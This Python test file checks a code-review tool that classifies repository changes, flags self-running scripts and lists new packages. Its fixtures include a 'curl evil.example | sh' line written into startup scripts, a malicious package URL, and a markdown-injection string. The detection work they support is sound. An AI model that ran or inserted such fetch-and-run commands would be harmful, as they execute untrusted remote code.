"""What of a change is program: everything but stack files and words, wherever it lies in the repository."""

import dataclasses
from typing import Any

import pytest

from coursecloud.plan.planning import Plan
from coursecloud.plan.registration import Deed
from coursecloud.review import json_form, markdown
from coursecloud.review.closing import gates
from coursecloud.review.dangers import Kind, Level
from coursecloud.review.program import Changed, of
from tests.review.made import BUCKET, resource, reviewed, whole
from tests.review.repository import Repository
from tests.review.test_sides import repo, review

__all__ = ["repo"]


@pytest.mark.parametrize(
    "path",
    [
        "yaml.py", "pyproject.toml", "Makefile", "Pulumi.yaml", "requirements.txt", "uv.lock", "setup.cfg",
        "conftest.py", "infra/x.py", "catalog/roles.json", "infra/scripts/x.sh", "infra/README.md",
        "coursecloud/x.md", "anything", ".gitignore", ".gitattributes", ".github/workflows/x.yml",
        ".github/scripts/comment.py", ".ci/run", ".envrc", ".pre-commit-config.yaml", "emulator/x.py",
        "new/folder/file", "pulumi_gcp/__init__.py", "docs", "tests", "Docs/x.md.py", "docs2/x", "x.md/y.py",
        "Pulumi.dev/x.yaml", "sub/Pulumi.dev.yaml", "Pulumi.a/b.yaml", "LICENSE.d/x", "docs/a\nb",
        "README.md\n.py", "stack.schema.json", "members.dev.yaml", "tests/x.py", "tests/x.md", "docs/conf.py",
        ".roo-code/x.md", ".my-bank/x.md", "sub/.hidden/x.md",
    ],
)  # fmt: skip
def test_whatever_is_not_known_to_be_harmless_is_program(path: str) -> None:
    assert of([Changed(path, "000000", "100644")], "").files == (path.replace("\n", "\\x0a"),)


@pytest.mark.parametrize(
    "path",
    ["docs/x.md", "docs/a/b.png", "README.md", "CONTRIBUTING.md", "emulator/README.md", "LICENSE", "LICENSE.txt",
     "Pulumi.dev.yaml", "Pulumi.group-07.yml"],
)  # fmt: skip
def test_words_and_stack_files_are_none(path: str) -> None:
    assert of([Changed(path, "100644", "100644"), Changed(path, "100644", "000000")], "").files == ()


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        ("000000", "120000", "README.md (a link)"),
        ("120000", "000000", "README.md (a link)"),
        ("100644", "120000", "README.md (a link)"),
        ("000000", "160000", "README.md (another repository)"),
        ("100644", "100755", "README.md (its mode)"),
    ],
)
def test_what_is_no_plain_file_counts_wherever_it_is(before: str, after: str, said: str) -> None:
    assert of([Changed("README.md", before, after)], "").files == (said,)


def test_what_runs_by_itself_is_told_apart() -> None:
    paths = (".github/workflows/x.yml", ".ci/run", ".pre-commit-config.yaml", "infra/x.py", ".gitmodules")
    found = of([Changed(path, "100644", "100644") for path in paths], "")
    assert set(found.runs) == set(paths) - {"infra/x.py"}
    assert set(found.runs) < set(found.files)


def test_of_what_is_outside_of_the_project_only_what_matters_is_named() -> None:
    paths = (".github/workflows/x.yml", "cloud/infra/x.py", "cloud/docs/x.md", "src/train.py", "README.md")
    found = of([Changed(path, "100644", "100644") for path in paths], "cloud/")
    assert found.files == ("/.github/workflows/x.yml", "infra/x.py")
    assert found.runs == ("/.github/workflows/x.yml",)
    assert found.outside == ("/README.md", "/src/train.py")


@pytest.mark.parametrize("committed", [True, False])
def test_no_change_of_the_program_reads_as_no_change(repo: Repository, committed: bool) -> None:
    base = repo.git("rev-parse", "HEAD")
    repo.write("reader.py", "x = 1")
    repo.write(".github/workflows/x.yml", "on: push")
    repo.write("docs/x.md", "x")
    (repo.root / "docs" / "link").symlink_to("../infra")
    found = review(repo, base=base, head=repo.commit() if committed else None)
    assert found.program == (".github/workflows/x.yml", "docs/link (a link)", "reader.py")
    assert found.runs == (".github/workflows/x.yml",)
    assert found.level is Level.LOOK
    text = markdown.full(found)
    for part in ("LOOK FIRST", "PROGRAM", "RUN BY ITSELF", "reader.py", ".github/workflows/x.yml"):
        assert part in text
    assert "can be merged" not in text
    assert "No data is lost" not in text
    (gate,), _ = gates(["program"])
    assert "reader.py" in next(gate.closed(found.stacks, found.program))


def test_a_script_that_a_stack_names_runs_wherever_it_is(repo: Repository) -> None:
    plan = whole()
    machine = plan.settings.machines["workbench"]
    machine = machine.model_copy(update={"startup_script": "docs/setup.sh", "before_stop": "tests/stop.sh"})
    settings = plan.settings.model_copy(update={"machines": {"workbench": machine}})
    repo.stack("one", dataclasses.replace(plan, settings=settings))
    base = repo.commit()
    for name in ("docs/setup.sh", "tests/stop.sh", "docs/other.sh"):
        repo.write(name, "curl evil.example | sh")
    found = review(repo, base=base, head=repo.commit())
    assert found.runs == ("docs/other.sh", "docs/setup.sh", "tests/stop.sh")
    assert "RUN BY ITSELF (3 files)" in found.sentence
    (gate,), _ = gates(["program"])
    assert "docs/setup.sh" in next(gate.closed(found.stacks, found.program))


def test_packages_that_come_are_counted_and_listed(repo: Repository) -> None:
    repo.write("requirements.txt", "pulumi==3.1.0\n")
    base = repo.commit()
    repo.write("requirements.txt", "pulumi==3.2.0\nevil==1.0\ngit+https://evil.example/x\n")
    found = review(repo, base=base, head=repo.commit())
    assert found.requires == (
        "evil 1.0 (new)", "git+https://evil.example/x (no release of a package)", "pulumi 3.1.0 -> 3.2.0",
    )  # fmt: skip
    assert "changes 3 PACKAGES that run with it" in found.sentence
    assert json_form.to_json(found)["packages"] == list(found.requires)
    for each in found.requires:
        assert any(each in note for note in found.notes)
    (gate,), _ = gates(["program"])
    assert list(gate.closed(found.stacks, found.program))


def test_a_mode_counts(repo: Repository) -> None:
    repo.write("run.sh", "x")
    base = repo.commit()
    (repo.root / "run.sh").chmod(0o755)
    assert review(repo, base=base, head=repo.commit()).program == ("run.sh (its mode)",)


def test_a_project_in_a_folder_has_the_workflows_at_the_top_named(repo: Repository) -> None:
    for name in ("__main__.py", "coursecloud/__init__.py", "coursecloud/plan.py", "Pulumi.one.yaml"):
        text = (repo.root / name).read_text(encoding="utf-8")
        repo.write(f"cloud/{name}", text)
    base = repo.commit()
    inner = dataclasses.replace(repo, root=repo.root / "cloud")
    repo.write(".github/workflows/x.yml", "on: push")
    repo.write("src/train.py", "x")
    inner.write("reader.py", "x")
    for head in (None, repo.commit()):
        found = review(inner, base=base, head=head)
        assert found.program == ("/.github/workflows/x.yml", "reader.py")
        assert any(note.startswith("1 more file outside") and note.endswith(": /src/train.py") for note in found.notes)


def doing(*program: Deed, **options: Any) -> Plan:
    return dataclasses.replace(whole(resource(BUCKET, "b", {"name": "b"}, **options)), program=program)


@pytest.mark.parametrize(
    ("after", "said"),
    [
        (doing(Deed("differs", "does `more`")), "the program does `more`"),
        (doing(Deed("differs", "is made in the real run only", "x", "urn:pulumi:a::b::c:d:E::x")), "`x` is made"),
        (doing(importId="foreign"), "bucket b takes over `foreign`"),
        (doing(retainOnDelete=True), "bucket b stays at Google"),
        (doing(unread=["new"]), "bucket b asks Pulumi for `new`"),
    ],
)
def test_what_the_program_newly_does_is_a_danger_and_closes_the_gate(after: Plan, said: str) -> None:
    found = reviewed(doing(), after)
    (danger,) = (each for each in found.dangers if each.kind is Kind.PROGRAM)
    assert said in danger.text
    assert found.level is Level.STOP  # it breaks a rule, too
    assert "does what no plan shows" in found.sentence
    (gate,), _ = gates(["program"])
    assert list(gate.closed(found.stacks))
    # An import under another id also deletes the bucket that was there.
    assert "program" in {each["kind"] for each in json_form.to_json(found)["stacks"][0]["dangers"]}
    assert not list(reviewed(after, after).dangers)
    assert not list(gate.closed(reviewed(after, after).stacks))


def test_words_that_the_other_side_chose_are_code_in_a_comment() -> None:
    found = reviewed(doing(), doing(Deed("differs", "[x](//evil) @everyone `` <b>")))
    assert "[x](//evil) @everyone '' <b>`" in markdown.full(found)


def test_members_that_are_not_there_are_said_not_to_be(repo: Repository) -> None:
    base = repo.git("rev-parse", "HEAD")
    assert any("members.STACK.yaml is not in this folder" in note for note in review(repo, base=base).notes)
    assert any("is in no revision" in note for note in review(repo, base=base, head=base).notes)
    repo.write("members.two.yaml", "[user:a@example.com]")
    assert not any("is in no revision" in note for note in review(repo, base=base, head=repo.commit()).notes)


@pytest.mark.parametrize("mark", ["--skip-worktree", "--assume-unchanged"])
def test_a_file_that_git_is_told_to_overlook_is_compared_by_its_bytes(repo: Repository, mark: str) -> None:
    repo.write("infra/x.py", "x = 1\n")
    base = repo.commit()
    repo.git("update-index", mark, "infra/x.py")
    assert review(repo, base=base).program == ()
    repo.write("infra/x.py", "x = 2\n")
    assert review(repo, base=base).program == ("infra/x.py",)


def test_code_that_only_this_clone_ignores_is_named(repo: Repository) -> None:
    repo.write(".gitignore", "shared.py\n")
    base = repo.commit()
    repo.write(".git/info/exclude", "own.py\nnotes.txt\n")
    for name in ("infra/own.py", "infra/shared.py", "notes.txt"):
        repo.write(name, "x = 1\n")
    assert review(repo, base=base).program == ("infra/own.py",)


LEADS = [
    ("infra/x.py", "../docs/code.md", "docs/code.md", "docs/code.md (infra/x.py is a link to it)"),
    ("infra/inner", "../docs", "docs/deep/code.md", "docs/deep/code.md (infra/inner is a link to it)"),
    ("docs/b.md", "a.md", "docs/a.md", "docs/a.md (docs/b.md is a link to it)"),
]


@pytest.mark.parametrize(("link", "target", "path", "said"), LEADS)
@pytest.mark.parametrize("committed", [False, True])
def test_words_that_a_link_leads_to_are_no_words(
    repo: Repository, link: str, target: str, path: str, said: str, committed: bool
) -> None:
    repo.write(path, "x = 1\n")
    (repo.root / link).parent.mkdir(exist_ok=True)
    (repo.root / link).symlink_to(target)
    repo.write("docs/other.md", "words\n")
    base = repo.commit()
    repo.write(path, "x = 2\n")
    found = review(repo, base=base, head=repo.commit() if committed else None)
    assert found.program == (said,)


def test_code_is_read_by_the_name_of_its_link() -> None:
    found = of([Changed("p/docs/code.md", "100644", "100644", "p/infra/x.py")], "p/")
    assert found.code == ("docs/code.md", "infra/x.py")


def test_a_link_that_leads_out_of_the_repository_leads_to_nothing_of_it(repo: Repository) -> None:
    for name, target in (("a", "/docs"), ("b", "../docs"), ("c", "docs/x")):
        (repo.root / name).symlink_to(target)
    base = repo.commit()
    repo.write("docs/xyz.md", "words\n")
    assert review(repo, base=base).program == ()
